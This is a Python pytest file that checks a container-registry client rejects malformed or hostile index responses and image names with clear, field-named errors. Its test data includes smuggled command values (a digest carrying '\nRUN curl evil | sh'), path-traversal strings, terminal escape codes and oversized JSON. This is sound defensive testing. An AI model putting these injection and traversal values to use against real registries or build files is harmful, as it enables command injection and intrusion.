"""Hostile registry answers, parsed without a network: every bad value is a RegistryError naming
where it came from and the field, never a KeyError/TypeError, and never a raw control character."""

import json

import pytest

from factory.errors import InvalidNameError, RegistryError
from factory.registry.manifests import DOCKER_MANIFEST, OCI_INDEX, index_platforms, parse_index
from factory.registry.names import registry_path

GOOD = "sha256:" + "a" * 64
WHERE = "127.0.0.1:5000/factory/base/busybox:1.35"


def entry(**overrides) -> dict:
    value = {
        "mediaType": DOCKER_MANIFEST,
        "size": 527,
        "digest": GOOD,
        "platform": {"architecture": "amd64", "os": "linux"},
    }
    value.update(overrides)
    return {k: v for k, v in value.items() if v is not ...}


def index(*entries) -> bytes:
    return json.dumps({"schemaVersion": 2, "mediaType": OCI_INDEX, "manifests": list(entries)})


# name -> (body, the field the error must name)
HOSTILE_INDEXES = {
    "not JSON": (b"<html>hello</html>", "invalid JSON"),
    "empty body": (b"", "invalid JSON"),
    "not UTF-8": (b"\xff\xfe\x00", "invalid JSON"),
    "JSON array": (b"[]", "expected a JSON object"),
    "JSON null": (b"null", "expected a JSON object"),
    "deeply nested": (b"[" * 100_000 + b"]" * 100_000, "invalid JSON"),
    "huge number": (b'{"manifests": ' + b"9" * 50_000 + b"}", "invalid JSON"),
    "manifests missing": (b"{}", "manifests is not a list"),
    "manifests an object": (b'{"manifests": {"a": 1}}', "manifests is not a list"),
    "manifests a string": (b'{"manifests": "x"}', "manifests is not a list"),
    "too many entries": (index(*[entry()] * 2000), "manifests has 2000 entries"),
    "entry a string": (index("sha256:x"), "manifests[0] is not an object"),
    "entry null": (index(None), "manifests[0] is not an object"),
    "digest missing": (index(entry(digest=...)), "manifests[0].digest"),
    "digest null": (index(entry(digest=None)), "manifests[0].digest"),
    "digest a number": (index(entry(digest=12)), "manifests[0].digest"),
    "digest a list": (index(entry(digest=[GOOD])), "manifests[0].digest"),
    "digest with newline": (index(entry(digest=GOOD + "\nRUN curl evil | sh")), ".digest"),
    "digest with CR": (index(entry(digest=GOOD + "\r")), "manifests[0].digest"),
    "digest uppercase": (index(entry(digest="sha256:" + "A" * 64)), ".digest"),
    "digest short": (index(entry(digest="sha256:abc")), "manifests[0].digest"),
    "digest sha512": (index(entry(digest="sha512:" + "a" * 128)), ".digest"),
    "digest path escape": (index(entry(digest="../../v2/_catalog")), ".digest"),
    "digest with escape": (index(entry(digest="sha256:\x1b[2J")), ".digest"),
    "second entry bad": (index(entry(), entry(digest="x")), "manifests[1].digest"),
    "mediaType missing": (index(entry(mediaType=...)), "manifests[0].mediaType"),
    "mediaType unknown": (index(entry(mediaType="text/html")), ".mediaType"),
    "mediaType a number": (index(entry(mediaType=1)), "manifests[0].mediaType"),
    "size missing": (index(entry(size=...)), "manifests[0].size"),
    "size negative": (index(entry(size=-1)), "manifests[0].size"),
    "size a string": (index(entry(size="527")), "manifests[0].size"),
    "size a float": (index(entry(size=1.5)), "manifests[0].size"),
    "size a bool": (index(entry(size=True)), "manifests[0].size"),
    "platform a string": (index(entry(platform="linux/amd64")), ".platform"),
    "os missing": (index(entry(platform={"architecture": "amd64"})), ".platform.os"),
    "os with newline": (
        index(entry(platform={"os": "linux\nRUN x", "architecture": "amd64"})),
        ".platform.os",
    ),
    "architecture a list": (
        index(entry(platform={"os": "linux", "architecture": ["amd64"]})),
        ".platform.architecture",
    ),
    "variant with space": (
        index(entry(platform={"os": "linux", "architecture": "arm64", "variant": "v8 x"})),
        ".platform.variant",
    ),
}


@pytest.mark.parametrize("name", sorted(HOSTILE_INDEXES))
def test_a_hostile_index_is_a_registry_error_naming_the_field(name):
    body, field = HOSTILE_INDEXES[name]
    body = body.encode() if isinstance(body, str) else body
    with pytest.raises(RegistryError) as caught:
        index_platforms(body, WHERE)
    message = str(caught.value)
    assert WHERE in message
    assert field in message
    assert not any(ord(c) < 32 or ord(c) == 127 for c in message), message
    assert len(message) < 1000


def test_a_good_index_still_parses():
    arm = entry(digest="sha256:" + "b" * 64, platform={"os": "linux", "architecture": "arm64"})
    attestation = entry(
        digest="sha256:" + "c" * 64, platform={"os": "unknown", "architecture": "unknown"}
    )
    body = index(entry(), arm, attestation).encode()
    assert index_platforms(body, WHERE) == {
        "linux/amd64": GOOD,
        "linux/arm64": "sha256:" + "b" * 64,
    }
    assert [e.descriptor.size for e in parse_index(body, WHERE)] == [527, 527, 527]


BAD_NAMES = {
    "repository escape": ("../x", "latest"),
    "repository inner escape": ("factory/../v2", "latest"),
    "repository percent": ("factory/%2e%2e", "latest"),
    "repository uppercase": ("Factory/app", "latest"),
    "repository empty component": ("factory//app", "latest"),
    "repository query": ("factory/app?x=1", "latest"),
    "repository newline": ("factory/app\n", "latest"),
    "repository too long": ("a" * 300, "latest"),
    "repository empty": ("", "latest"),
    "tag escape": ("factory/app", "../../_catalog"),
    "tag percent": ("factory/app", "%2e%2e"),
    "tag space": ("factory/app", "a b"),
    "tag too long": ("factory/app", "t" * 129),
    "tag leading dash": ("factory/app", "-x"),
    "tag newline": ("factory/app", "v1\n"),
    "digest short": ("factory/app", "sha256:abc"),
    "digest with slash": ("factory/app", "sha256:" + "a" * 63 + "/"),
}


@pytest.mark.parametrize("name", sorted(BAD_NAMES))
def test_names_are_checked_before_a_url_is_made(name):
    repository, reference = BAD_NAMES[name]
    with pytest.raises(InvalidNameError) as caught:
        registry_path(repository, "manifests", reference)
    assert isinstance(caught.value, ValueError)  # callers that catch ValueError still do
    assert not any(ord(c) < 32 for c in str(caught.value))


def test_good_names_make_quoted_paths():
    assert registry_path("factory/app", "manifests", "linux_amd64-0123456789ab") == (
        "/v2/factory/app/manifests/linux_amd64-0123456789ab"
    )
    assert registry_path("factory/app", "blobs", GOOD) == f"/v2/factory/app/blobs/{GOOD}"
    assert registry_path("factory/app", "tags") == "/v2/factory/app/tags/"
